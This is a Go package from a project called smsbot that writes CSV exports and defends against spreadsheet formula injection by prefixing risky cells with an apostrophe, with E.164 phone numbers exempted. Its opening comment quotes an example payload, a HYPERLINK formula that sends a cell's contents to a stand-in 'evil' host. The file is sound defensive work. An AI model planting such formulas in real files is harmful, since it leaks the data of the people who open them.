// Package spreadsheet writes the CSV files smsbot hands to people (exports,
// import reports), who open them in Excel, LibreOffice or Google Sheets.
// Those programs run a cell that starts with = + - or @ as a formula, so a
// registration form's name =HYPERLINK("http://evil/?x="&A3,"Refund") would
// become a live link or worse. Writer neutralises such cells the way OWASP
// recommends: a leading apostrophe, which the spreadsheet shows as text.
package spreadsheet

import (
	"encoding/csv"
	"io"
)

// Cell returns s as a cell a spreadsheet shows as text: a cell starting
// with = + - @, a tab or a carriage return gets a leading apostrophe. A
// phone number in E.164 (+14155550100) is left alone: it is digits only,
// so it cannot carry a formula, and it is what the file is for.
func Cell(s string) string {
	if s == "" || !formulaStart(s[0]) || isE164(s) {
		return s
	}
	return "'" + s
}

func formulaStart(c byte) bool {
	switch c {
	case '=', '+', '-', '@', '\t', '\r':
		return true
	}
	return false
}

// isE164 reports whether s is written like an E.164 number: a plus, a
// non-zero digit, and at most 14 more digits. It does not check the
// number plan; syntax is what makes it safe.
func isE164(s string) bool {
	if len(s) < 3 || len(s) > 16 || s[0] != '+' || s[1] < '1' || s[1] > '9' {
		return false
	}
	for i := 2; i < len(s); i++ {
		if s[i] < '0' || s[i] > '9' {
			return false
		}
	}
	return true
}

// Writer is a csv.Writer whose every cell goes through Cell. It is not
// safe for concurrent use.
type Writer struct {
	w   *csv.Writer
	buf []string
}

// NewWriter returns a Writer writing CSV to w.
func NewWriter(w io.Writer) *Writer { return &Writer{w: csv.NewWriter(w)} }

// Write writes one record, its risky cells neutralised. record itself is
// not changed.
func (w *Writer) Write(record []string) error {
	w.buf = w.buf[:0]
	for _, s := range record {
		w.buf = append(w.buf, Cell(s))
	}
	return w.w.Write(w.buf)
}

// Flush writes any buffered data to the underlying io.Writer.
func (w *Writer) Flush() { w.w.Flush() }

// Error reports any error of a previous Write or Flush.
func (w *Writer) Error() error { return w.w.Error() }
